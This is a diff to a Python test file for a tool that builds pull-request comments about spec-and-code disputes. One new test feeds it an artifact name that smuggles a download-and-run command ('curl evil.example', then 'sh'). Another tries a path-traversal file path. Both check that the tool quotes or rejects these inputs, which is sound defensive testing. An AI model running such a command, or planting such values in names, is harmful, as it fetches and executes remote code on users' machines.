@@ -221,7 +221,8 @@ def test_several_results_are_a_table_and_what_needs_a_person():
 
     is_sound(body)
     assert body.startswith("### ⚖️ 1 dispute needs a decision · 4 tests proven · 2 components\n")
-    assert headings(body)[1:3] == ["Components", "`calculator`: spec and code disagree"]
+    assert headings(body)[1:3] == ["Components", "Spec and code disagree"]
+    assert "\n`calculator` **FR-4 Division**: " in body
     assert "git apply --allow-empty report/*/changes.patch" in body
     assert comment(other, links=LINKS) not in body
 
@@ -232,6 +233,25 @@ def test_several_results_fit_however_large_and_hostile_they_are():
 
     assert len(body.encode("utf-16-le")) // 2 <= 65_536
     is_sound(body)
+
+
+def test_there_is_room_for_the_worst_of_a_thousand_results():
+    body = comment(*[make_result()] * 1000, links=LINKS)
+
+    assert len(body.encode("utf-16-le")) // 2 <= 65_536
+    is_sound(body)
+    assert "1,000 disputes need a decision" in body
+
+
+def test_an_artifact_whose_name_holds_commands_gives_the_reader_none():
+    named = Links(run_id=1, artifact_name="x; curl evil.example -o a; sh a")
+
+    assert "--name 'x; curl evil.example -o a; sh a' --dir" in comment(make_result(), links=named)
+
+
+def test_no_link_leads_out_of_the_repository():
+    assert LINKS.line("src/../../../../../evil/repository/x.py", 1) is None
+    assert LINKS.line("src/..x/y.py", 1)
 
 
 def test_the_summary_of_several_results_has_all_of_each():
